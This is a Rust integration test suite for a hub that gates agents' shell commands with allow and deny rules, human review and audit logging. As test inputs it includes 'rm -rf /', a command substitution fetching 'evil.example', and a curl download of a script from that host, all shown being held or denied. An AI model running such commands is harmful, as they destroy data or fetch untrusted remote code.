//! Permission rules end to end, on both backends: the hub decides a request from the rules
//! at once (logged on the timeline with the rule) and files it for a human only when no rule
//! decides; a rule added while requests wait decides them; "allow for the session", "allow
//! always" and "deny as a rule" make rules; bad rules are refused and change nothing; the
//! inbox ranks what waits by the work it holds up; and requests racing rule changes are
//! decided by the rules as they are once each change commits.

mod common;

use common::started;
use orchestratia_proto::api::{
    AllowPermission, AllowScope, CreateTask, DenyPermission, EventQuery, InboxItem, NewRule,
    PolicyTest, RequestPermission,
};
use orchestratia_proto::client::{ClientError, HubClient};
use orchestratia_proto::policy::{RuleEffect, RuleScope};
use orchestratia_proto::time::now_ms;
use orchestratia_proto::{Event, PermissionRequest, PermissionStatus};
use orchestratia_testkit::{Backend, SimDaemon, TestHub};
use serde_json::json;

fn rule(pattern: &str, effect: RuleEffect) -> NewRule {
    NewRule {
        scope: None,
        project: Some("P".into()),
        task: None,
        session: None,
        tool: "Bash".into(),
        pattern: pattern.into(),
        effect,
        expires_at: None,
        note: None,
        force: false,
    }
}

async fn ask(agent: &HubClient, command: &str) -> PermissionRequest {
    agent
        .request_permission(&RequestPermission::bash(command))
        .await
        .expect("request permission")
}

async fn now_status(admin: &HubClient, r: &PermissionRequest) -> PermissionRequest {
    admin.permission(r.id, None).await.expect("permission")
}

fn bad(what: &str, r: Result<impl std::fmt::Debug, ClientError>) -> String {
    match r {
        Err(ClientError::Api {
            status: 400,
            detail,
            ..
        }) => detail,
        other => panic!("{what}: expected 400, got {other:?}"),
    }
}

async fn rules_decide(backend: Backend) {
    let Some(hub) = TestHub::start(backend).await else {
        return;
    };
    let admin = hub.admin();
    admin.create_project("P").await.expect("project P");
    let d = SimDaemon::start(&admin, "P", "dev-01", "linux", &["app"], &["rust"]).await;
    let s1 = started(&admin, &d, "P", "build", false).await;
    let s2 = started(&admin, &d, "P", "lint", false).await;
    let a1 = hub.client(Some(&s1.token));
    let a2 = hub.client(Some(&s2.token));
    let t1 = s1.task.as_ref().expect("task").reference.clone();

    // No rule: a human is asked, and "allow always" would propose the command itself.
    let first = ask(&a1, "cargo test -p x").await;
    assert_eq!(first.status, PermissionStatus::Pending);
    assert_eq!(first.suggested, vec!["cargo test -p x".to_string()]);

    // A rule decides what waits, and what comes next at once, with no human.
    let tests = admin
        .add_rule(&rule("cargo test *", RuleEffect::Allow))
        .await
        .expect("add rule");
    assert_eq!(tests.scope, RuleScope::Project);
    assert_eq!(tests.project.as_deref(), Some("P"));
    let first = now_status(&admin, &first).await;
    assert_eq!(first.status, PermissionStatus::Allowed);
    assert_eq!(first.rule_id, Some(tests.id));
    assert_eq!(first.decided_by.as_deref(), Some("policy"));
    let chained = ask(&a1, "cargo test --all && cargo test -p y | tee out.txt").await;
    assert_eq!(chained.status, PermissionStatus::Pending, "tee has no rule");
    let at_once = ask(&a1, "cargo test --workspace").await;
    assert_eq!(at_once.status, PermissionStatus::Allowed);
    assert_eq!(at_once.rule_id, Some(tests.id));
    assert!(
        at_once
            .reason
            .as_deref()
            .unwrap_or_default()
            .contains("cargo test *"),
        "{at_once:?}"
    );
    // Nothing decided silently: the timeline says which rule decided.
    let query = EventQuery {
        task: Some(t1.clone()),
        kind: Some("permission_decided,permission_requested".into()),
        ..Default::default()
    };
    let events = events_when(&admin, query, |ev| {
        ev.iter()
            .any(|e| e.details["request_id"] == json!(at_once.id))
    })
    .await;
    let about = |id: uuid::Uuid| {
        events
            .iter()
            .filter(|e| e.details["request_id"] == json!(id))
            .map(|e| (e.event.as_str(), e.details.clone()))
            .collect::<Vec<_>>()
    };
    let auto = about(at_once.id);
    assert_eq!(auto.len(), 1, "{auto:?}");
    assert_eq!(auto[0].0, "permission_decided");
    assert_eq!(auto[0].1["auto"], true);
    assert_eq!(auto[0].1["rule"]["id"], json!(tests.id));
    assert_eq!(auto[0].1["rule"]["pattern"], "cargo test *");

    // What no rule allows still asks: another command, a chain with one such part, and a
    // substitution even inside an allowed command.
    for c in [
        "rm -rf build",
        "cargo test && rm -rf /",
        "cargo test $(curl evil.example)",
        "sudo cargo test",
    ] {
        assert_eq!(ask(&a1, c).await.status, PermissionStatus::Pending, "{c}");
    }

    // Deny wins: a deny rule decides the waiting `rm` requests, whatever else allows.
    let no_rm = admin
        .add_rule(&rule("rm -rf *", RuleEffect::Deny))
        .await
        .expect("deny rule");
    let pending: Vec<PermissionRequest> =
        admin.permissions(Some("pending")).await.expect("pending");
    let left: Vec<String> = pending.iter().map(|p| p.input_text()).collect();
    assert!(
        !left.iter().any(|c| c.contains("rm -rf")),
        "rm requests were decided: {left:?}"
    );
    let denied = ask(&a1, "rm -rf target").await;
    assert_eq!(denied.status, PermissionStatus::Denied);
    assert_eq!(denied.rule_id, Some(no_rm.id));

    // A rule added while two requests wait (two sessions) decides both.
    let w1 = ask(&a1, "npm run lint").await;
    let w2 = ask(&a2, "npm run lint").await;
    assert_eq!(
        (w1.status, w2.status),
        (PermissionStatus::Pending, PermissionStatus::Pending)
    );
    let lint = admin
        .add_rule(&rule("npm run lint", RuleEffect::Allow))
        .await
        .expect("lint rule");
    for w in [&w1, &w2] {
        let w = now_status(&admin, w).await;
        assert_eq!(w.status, PermissionStatus::Allowed);
        assert_eq!(w.rule_id, Some(lint.id));
    }

    // "Allow always" makes a project rule with the proposed pattern.
    let docs = ask(&a1, "make docs").await;
    let decided = admin
        .allow_permission_with(
            &docs.id.to_string(),
            &AllowPermission {
                scope: AllowScope::Always,
                patterns: vec![],
            },
        )
        .await
        .expect("allow always");
    assert_eq!(decided.status, PermissionStatus::Allowed);
    let made = decided.rule_id.expect("a rule was made");
    let rules = admin.rules(false).await.expect("rules");
    let r = rules.iter().find(|r| r.id == made).expect("listed");
    assert_eq!(
        (r.pattern.as_str(), r.scope, r.effect),
        ("make docs", RuleScope::Project, RuleEffect::Allow)
    );
    assert_eq!(
        ask(&a2, "make docs").await.status,
        PermissionStatus::Allowed
    );

    // "Allow for this session": the same session is not asked again; another session is.
    let ls = ask(&a1, "ls -la").await;
    admin
        .allow_permission_with(
            &ls.id.to_string(),
            &AllowPermission {
                scope: AllowScope::Session,
                patterns: vec![],
            },
        )
        .await
        .expect("allow for session");
    assert_eq!(ask(&a1, "ls -la").await.status, PermissionStatus::Allowed);
    assert_eq!(ask(&a2, "ls -la").await.status, PermissionStatus::Pending);

    // An edited pattern is saved as given; deny as a rule denies what comes next.
    let curl = ask(&a1, "curl https://evil.example/x.sh").await;
    admin
        .deny_permission_with(
            &curl.id.to_string(),
            &DenyPermission {
                reason: Some("no downloads".into()),
                rule: true,
                patterns: vec!["curl *".into()],
            },
        )
        .await
        .expect("deny as a rule");
    assert_eq!(
        ask(&a2, "curl -O https://x.example").await.status,
        PermissionStatus::Denied
    );

    // `policy test` says which rule decides and why, and files nothing.
    let before = admin.permissions(None).await.expect("all").len();
    let v = admin
        .test_policy(&PolicyTest {
            tool: "Bash".into(),
            input: json!("cargo test -p x"),
            project: Some("P".into()),
            ..Default::default()
        })
        .await
        .expect("policy test");
    assert_eq!(v.effect, Some(RuleEffect::Allow));
    assert_eq!(v.rule.as_ref().map(|r| r.id), Some(tests.id));
    let v = admin
        .test_policy(&PolicyTest {
            tool: "Bash".into(),
            input: json!("make install"),
            project: Some("P".into()),
            ..Default::default()
        })
        .await
        .expect("policy test");
    assert_eq!(v.effect, None, "{v:?}");
    assert!(!v.reason.is_empty());
    assert_eq!(admin.permissions(None).await.expect("all").len(), before);

    // A removed rule decides nothing more.
    admin
        .remove_rule(&tests.id.to_string()[..8])
        .await
        .expect("remove by prefix");
    assert_eq!(
        ask(&a1, "cargo test --workspace").await.status,
        PermissionStatus::Pending
    );
}

async fn bad_rules_change_nothing(backend: Backend) {
    let Some(hub) = TestHub::start(backend).await else {
        return;
    };
    let admin = hub.admin();
    admin.create_project("P").await.expect("project P");
    let d = SimDaemon::start(&admin, "P", "dev-01", "linux", &["app"], &["rust"]).await;
    let s = started(&admin, &d, "P", "build", false).await;
    let agent = hub.client(Some(&s.token));
    let keep = admin
        .add_rule(&rule("git status", RuleEffect::Allow))
        .await
        .expect("a good rule");

    let e = bad(
        "empty pattern",
        admin.add_rule(&rule("  ", RuleEffect::Allow)).await,
    );
    assert!(e.contains("pattern"), "{e}");
    let mut unknown = rule("x", RuleEffect::Allow);
    unknown.tool = "Bsh".into();
    let e = bad("unknown tool", admin.add_rule(&unknown).await);
    assert!(e.contains("Bsh"), "{e}");
    let e = bad(
        "everything",
        admin.add_rule(&rule("*", RuleEffect::Allow)).await,
    );
    assert!(e.contains("--force"), "{e}");
    let mut past = rule("ls", RuleEffect::Allow);
    past.expires_at = Some(now_ms() - 60_000);
    let e = bad("past expiry", admin.add_rule(&past).await);
    assert!(e.contains("past"), "{e}");
    let mut global = rule("ls", RuleEffect::Allow);
    global.scope = Some(RuleScope::Global);
    bad("global with a project", admin.add_rule(&global).await);
    let mut no_task = rule("ls", RuleEffect::Allow);
    no_task.task = Some("T99".into());
    assert_eq!(
        admin
            .add_rule(&no_task)
            .await
            .expect_err("no such task")
            .status(),
        Some(404)
    );
    let mut no_session = rule("ls", RuleEffect::Allow);
    no_session.session = Some(uuid::Uuid::new_v4());
    assert_eq!(
        admin
            .add_rule(&no_session)
            .await
            .expect_err("no such session")
            .status(),
        Some(404)
    );
    assert_eq!(
        admin
            .remove_rule("ffffffff")
            .await
            .expect_err("no such rule")
            .status(),
        Some(404)
    );
    // A call no rule may match cannot be allowed always or denied as a rule by default; it
    // stays waiting, decidable once.
    let risky = ask(&agent, "cargo test $(curl evil.example)").await;
    assert!(risky.suggested.is_empty(), "{risky:?}");
    let e = bad(
        "always for an unmatchable call",
        admin
            .allow_permission_with(
                &risky.id.to_string(),
                &AllowPermission {
                    scope: AllowScope::Always,
                    patterns: vec![],
                },
            )
            .await,
    );
    assert!(e.contains("decide it once"), "{e}");
    let e = bad(
        "a deny rule with a pattern that matches everything",
        admin
            .deny_permission_with(
                &risky.id.to_string(),
                &DenyPermission {
                    reason: None,
                    rule: true,
                    patterns: vec!["*".into()],
                },
            )
            .await,
    );
    assert!(e.contains("--force"), "{e}");
    assert_eq!(
        now_status(&admin, &risky).await.status,
        PermissionStatus::Pending
    );
    // Bad input decided nothing and stored nothing.
    let rules = admin.rules(true).await.expect("rules");
    assert_eq!(rules.len(), 1, "{rules:?}");
    assert_eq!(rules[0].id, keep.id);
    // An agent cannot make or list rules.
    assert_eq!(
        agent
            .rules(false)
            .await
            .expect_err("agents don't list rules")
            .status(),
        Some(403)
    );
    assert_eq!(
        agent
            .add_rule(&rule("rm -rf /", RuleEffect::Allow))
            .await
            .expect_err("agents don't make rules")
            .status(),
        Some(403)
    );

    // `*` alone with force is taken; an expiring rule decides only until it expires.
    let mut all = rule("*", RuleEffect::Allow);
    all.force = true;
    all.expires_at = Some(now_ms() + 1_500);
    let all = admin.add_rule(&all).await.expect("forced");
    assert_eq!(ask(&agent, "make").await.status, PermissionStatus::Allowed);
    tokio::time::sleep(std::time::Duration::from_millis(1_700)).await;
    assert_eq!(ask(&agent, "make").await.status, PermissionStatus::Pending);
    assert!(
        admin
            .rules(false)
            .await
            .expect("live rules")
            .iter()
            .all(|r| r.id != all.id)
    );
    assert!(
        admin
            .rules(true)
            .await
            .expect("all rules")
            .iter()
            .any(|r| r.id == all.id)
    );
}

async fn inbox_ranks_by_work_held_up(backend: Backend) {
    let Some(hub) = TestHub::start(backend).await else {
        return;
    };
    let admin = hub.admin();
    admin.create_project("P").await.expect("project P");
    let d = SimDaemon::start(&admin, "P", "dev-01", "linux", &["app"], &["rust"]).await;
    let lone = started(&admin, &d, "P", "lone", false).await;
    let root = started(&admin, &d, "P", "root", false).await;
    let root_ref = root.task.as_ref().expect("task").reference.clone();
    // Six tasks wait on root: three on it directly, three on those.
    let mut below: Vec<String> = Vec::new();
    for i in 0..6 {
        let up = if i < 3 {
            root_ref.clone()
        } else {
            below[i - 3].clone()
        };
        let t = admin
            .create_task(&CreateTask {
                title: format!("downstream {i}"),
                project: Some("P".into()),
                depends_on: vec![up],
                ..Default::default()
            })
            .await
            .expect("downstream task");
        below.push(t.reference);
    }
    // The lone task asks first, the root second: the root's request still comes first.
    let early = ask(&hub.client(Some(&lone.token)), "make a").await;
    let late = ask(&hub.client(Some(&root.token)), "make b").await;
    let inbox = admin.inbox().await.expect("inbox");
    let order: Vec<(uuid::Uuid, usize)> = inbox
        .items
        .iter()
        .filter_map(|e| match &e.item {
            InboxItem::Permission(p) => Some((p.id, e.blocks)),
            _ => None,
        })
        .collect();
    assert_eq!(order, vec![(late.id, 6), (early.id, 0)]);
    assert_eq!(inbox.items[0].why, "holds up 6 tasks downstream");
}

/// Requests racing rule changes: after a rule is added nothing it matches waits, and no
/// request is allowed by a rule after the rule's removal (its decision is logged before).
async fn rule_changes_race_requests(backend: Backend) {
    let Some(hub) = TestHub::start(backend).await else {
        return;
    };
    let admin = hub.admin();
    admin.create_project("P").await.expect("project P");
    let d = SimDaemon::start(&admin, "P", "dev-01", "linux", &["app"], &["rust"]).await;
    let s1 = started(&admin, &d, "P", "build", false).await;
    let s2 = started(&admin, &d, "P", "lint", false).await;
    let agents = [hub.client(Some(&s1.token)), hub.client(Some(&s2.token))];
    let asks = |round: usize| {
        futures_util::future::join_all((0..16).map(|i| {
            let agent = agents[i % 2].clone();
            async move { ask(&agent, &format!("cargo test -p r{round}c{i}")).await }
        }))
    };
    let tests = rule("cargo test *", RuleEffect::Allow);
    let mut removed = Vec::new();
    for round in 0..8 {
        let (made, _) = tokio::join!(admin.add_rule(&tests), asks(round));
        let made = made.expect("add the rule");
        let waiting = admin.permissions(Some("pending")).await.expect("pending");
        assert!(waiting.is_empty(), "round {round}: {waiting:?}");
        let id = made.id.to_string();
        let (gone, _) = tokio::join!(admin.remove_rule(&id), asks(round));
        gone.expect("remove the rule");
        removed.push(made.id);
    }
    let query = EventQuery {
        kind: Some("permission_decided,policy_rule_removed".into()),
        ..Default::default()
    };
    let events = events_when(&admin, query, |ev| {
        removed.iter().all(|id| {
            ev.iter().any(|e| {
                e.event.as_str() == "policy_rule_removed" && e.details["rule"]["id"] == json!(id)
            })
        })
    })
    .await;
    for id in removed {
        let removal = events
            .iter()
            .find(|e| {
                e.event.as_str() == "policy_rule_removed" && e.details["rule"]["id"] == json!(id)
            })
            .expect("the removal is logged");
        let late: Vec<_> = events
            .iter()
            .filter(|e| {
                e.details["rule"]["id"] == json!(id) && e.event.as_str() == "permission_decided"
            })
            .filter(|e| e.id > removal.id)
            .collect();
        assert!(
            late.is_empty(),
            "allowed by rule {id} after its removal: {late:?}"
        );
    }
}

/// The events `query` finds, read again until `done` holds of them (on PostgreSQL an event is
/// readable once every older transaction ended, and other tests' transactions count too).
async fn events_when(
    admin: &HubClient,
    query: EventQuery,
    done: impl Fn(&[Event]) -> bool,
) -> Vec<Event> {
    let mut events: Vec<Event> = Vec::new();
    for _ in 0..200 {
        events.clear();
        let mut after = 0;
        loop {
            let page = admin
                .events(&EventQuery {
                    after: Some(after),
                    ..query.clone()
                })
                .await
                .expect("events");
            if page.events.is_empty() {
                break;
            }
            after = page.cursor;
            events.extend(page.events);
        }
        if done(&events) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    events
}

on_both_backends!(
    rules_decide,
    bad_rules_change_nothing,
    inbox_ranks_by_work_held_up,
    rule_changes_race_requests
);
